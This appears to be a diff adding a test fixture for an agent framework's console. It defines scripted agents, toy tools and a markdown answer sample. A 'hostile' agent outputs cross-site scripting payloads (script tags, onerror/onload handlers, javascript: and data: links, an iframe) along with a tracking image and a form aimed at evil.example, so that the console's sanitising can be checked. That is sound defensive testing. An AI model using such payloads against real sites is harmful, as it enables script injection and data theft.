@@ -1,0 +1,144 @@
+"""Agents with a scripted model that show everything the console draws."""
+
+import asyncio
+from collections.abc import AsyncGenerator
+from pathlib import Path
+from typing import Annotated, Any, Literal
+
+import vaka
+from vaka.agents.react import Agent
+from vaka.core.ports.model import Chunk, Prompt, ReasoningChunk, StopChunk, TextChunk
+from vaka.testing import ScriptedModel, call, calls, fail, say
+
+ANSWER = """## Two ways to Hilo
+
+The **coast road** is longer, but open; the *saddle road* is closed at night[^1].
+
+1. Leave before six.
+2. Take water along: `2 l` for each person.
+   - and a hat
+
+| road | km | open |
+|---|---:|---|
+| coast | 121 | yes |
+| saddle | 87 | until 18:00 |
+
+```python
+def minutes(km: float, speed: float = 70) -> float:
+    \"\"\"How long it takes.\"\"\"
+    return 60 * km / speed  # without stops
+```
+
+> The forecast says rain after noon.
+
+See [the map](https://example.org/map) for more."""
+
+HOSTILE = (
+    "<script>window.hacked = 1</script>"
+    "<img src=x onerror='window.hacked = 2'>"
+    "![pixel](https://evil.example/pixel.png?q=secret) "
+    "[click](javascript:window.hacked=3) "
+    "<svg onload='window.hacked=4'></svg>"
+    "<iframe srcdoc='<script>parent.hacked=5</script>'></iframe>"
+    "<a href='data:text/html,<script>window.hacked=6</script>'>data</a>\n\n"
+    '<style>body{display:none}</style><form action="https://evil.example"><button>go</button></form>\n\n'
+    "```html\n<script>window.hacked = 7</script>\n```\n\n"
+    "| <img src=x onerror=window.hacked=8> |\n|---|\n| [x](vbscript:msgbox) |"
+)
+BEFORE = "def speed(km, hours):\n    return km / hours\n\n\nLIMIT = 70\n"
+AFTER = "def speed(km: float, hours: float) -> float:\n    return km / hours if hours else 0.0\n\n\nLIMIT = 80\n"
+
+
+@vaka.tool(effect="read")
+async def weather(city: Annotated[str, "The city."], days: Annotated[int, "Days ahead."] = 1) -> dict[str, Any]:
+    """Return the weather of a city."""
+    if city == "Atlantis":
+        raise ValueError("there is no Atlantis on any map")
+    return {"city": city, "days": days, "sky": "clear", "wind": {"from": "north-east", "knots": 12}}
+
+
+@vaka.tool(effect="idempotent")
+async def edit_file(file_path: str, old_string: str, new_string: str) -> str:
+    """Replace a text in a file."""
+    return f"{file_path} was changed: {len(old_string)} characters became {len(new_string)}"
+
+
+@vaka.tool
+async def shell(context: vaka.ToolContext[Any], command: str) -> str:
+    """Run a command."""
+    lines = [f"{number:>4}  {command}\n" for number in range(1, 31)]
+    for line in lines:
+        context.emit(line)
+    return "".join(lines)
+
+
+@vaka.tool
+async def deploy(
+    service: Annotated[str, "What is deployed."], to: Literal["staging", "production"] = "staging", replicas: int = 2
+) -> str:
+    """Deploy a service."""
+    return f"{service} runs on {to} with {replicas} replicas"
+
+
+@vaka.tool(effect="resume")
+async def choose(context: vaka.ToolContext[Any]) -> str:
+    """Let a person choose a road."""
+    return str(await context.ask("Which road should be taken?", options=("coast road", "saddle road")))
+
+
+def usage(**tokens: Any) -> dict[str, Any]:
+    return {"usage": {"input": 1840, "output": 312, "cache_read": 1400, "reasoning": 96, "cost": 0.0123, **tokens}}
+
+
+def pieces(text: str, size: int = 7) -> list[str]:
+    return [text[start : start + size] for start in range(0, len(text), size)]
+
+
+def make_agents() -> list[Agent]:
+    """Return the agents; each answers the n-th model call of a session with its n-th line."""
+    scout_lines = [call("weather", city="Kona") | usage(), say("Kona is dry, with wind from the north-east.", **usage())]
+    tour = ScriptedModel(
+        {"reasoning": "The question is about roads. I should look at the weather of both sides first.", **usage(),
+         **calls(call("weather", city="Hilo"), call("weather", city="Atlantis", days=3)), "text": "Let me look at the weather."},
+        calls(call("edit_file", file_path="src/roads.py", old_string=BEFORE, new_string=AFTER), call("shell", command="pytest -q tests/roads")) | usage(),
+        call("scout", prompt="How is Kona?") | usage(),
+        {"chunks": pieces(ANSWER), "reasoning": "Now the answer.", **usage(output=940, cost=0.04)},
+        say("You are welcome. 🌺", **usage()),
+        agents={"scout": scout_lines},
+    )  # fmt: skip
+    scout = vaka.Agent("scout", description="Looks at one place.", model=tour, tools=[weather])
+    deploying = ScriptedModel(
+        call("deploy", service="roads", to="production", replicas=4) | usage(), say("It is deployed.", **usage()),
+        call("deploy", service="<b>tides</b>", replicas=1) | usage(), say("That one is deployed, too.", **usage()),
+    )  # fmt: skip
+    hostile = ScriptedModel(
+        {**call("weather", city="<img src=x onerror=window.hacked=9>"), "text": HOSTILE, "reasoning": HOSTILE, **usage()},
+        say(HOSTILE, **usage()),
+    )  # fmt: skip
+    return [
+        vaka.Agent("guide", description="Plans a day on the island.", model=tour, tools=[weather, edit_file, shell, scout]),
+        vaka.Agent("operator", description="Deploys services, after a person has agreed.", model=deploying, tools=[deploy]),
+        vaka.Agent("asker", description="Asks before it answers.", model=ScriptedModel(call("choose"), say("Good choice.")), tools=[choose]),
+        vaka.Agent("hostile", description=HOSTILE[:120], model=hostile, tools=[weather]),
+        vaka.Agent("broken", description="Fails.", model=ScriptedModel(fail(400, "the model refuses: no credit"))),
+    ]  # fmt: skip
+
+
+class GatedModel:
+    """Says the first half of an answer, and the rest once a file exists."""
+
+    name = "gated"
+
+    def __init__(self, gate: Path, first: str, rest: str) -> None:
+        self.gate, self.first, self.rest = gate, first, rest
+
+    async def stream(self, prompt: Prompt) -> AsyncGenerator[Chunk]:
+        """Yield the chunks of an answer."""
+        yield ReasoningChunk("I think before I speak.")
+        for piece in pieces(self.first):
+            yield TextChunk(piece)
+        while not self.gate.exists():
+            await asyncio.sleep(0.02)
+        for piece in pieces(self.rest):
+            yield TextChunk(piece)
+        yield StopChunk("end")
